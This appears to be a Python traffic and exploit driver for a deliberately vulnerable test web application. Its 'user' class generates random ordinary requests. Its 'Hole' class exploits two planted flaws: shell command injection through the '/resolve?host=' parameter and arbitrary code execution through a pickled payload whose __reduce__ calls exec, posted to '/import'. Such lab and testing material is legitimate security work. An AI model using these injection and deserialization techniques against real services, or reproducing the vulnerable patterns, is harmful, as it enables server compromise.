# SPDX-License-Identifier: Apache-2.0
"""The Python web application: notes read and written, files, names resolved in a shell, notes exported and imported."""
import base64
import pickle
import random
import urllib.parse

import pace
from web import Web

PORT = 8000


class user:
    def __init__(self, host):
        self.web = Web(host, PORT)
        self.close = self.web.connection.close

    def __call__(self):
        choice, n = random.random(), random.randint(1, 40)
        form = {"content-type": "application/x-www-form-urlencoded"}
        if choice < 0.45:
            self.web.ask("GET", "/")
        elif choice < 0.65:
            self.web.ask("POST", "/notes", urllib.parse.urlencode({"text": pace.words(n)}), form)
        elif choice < 0.75:
            self.web.ask("PUT", f"/files/doc{n}", pace.words(n * 20))
        elif choice < 0.88:
            self.web.ask("GET", f"/files/doc{n}")
        elif choice < 0.94:
            self.web.ask("GET", "/resolve?host=" + random.choice(("localhost", "nowhere.example", "10.0.0.1")))
        elif choice < 0.97:
            self.web.ask("GET", "/export")
        else:
            self.web.ask("POST", "/import", base64.b64encode(pickle.dumps([(pace.words(3),)] * 3)))


def once(host):
    return Web(host, PORT, 5).ask("GET", "/")


class Payload:
    def __init__(self, source):
        self.source = source

    def __reduce__(self):
        return exec, (self.source,)


class Hole:
    """A host's name ends where a shell's command begins; what is imported is code."""

    def __init__(self, host):
        self.host = host

    def run(self, command):
        path = "/resolve?host=" + urllib.parse.quote("localhost >/dev/null; " + command)
        return Web(self.host, PORT).ask("GET", path).decode(errors="replace")

    def code(self, source):
        return Web(self.host, PORT).ask("POST", "/import", base64.b64encode(pickle.dumps(Payload(source)))).decode(errors="replace")
